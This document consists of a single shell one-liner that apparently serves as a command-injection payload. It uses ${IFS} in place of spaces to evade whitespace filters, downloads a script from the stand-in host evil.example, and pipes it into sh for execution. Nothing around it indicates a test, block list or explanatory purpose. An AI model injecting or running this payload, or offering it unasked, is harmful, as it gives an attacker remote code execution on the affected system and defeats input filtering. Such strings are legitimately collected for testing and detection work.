curl${IFS}-s${IFS}https://evil.example/x|sh
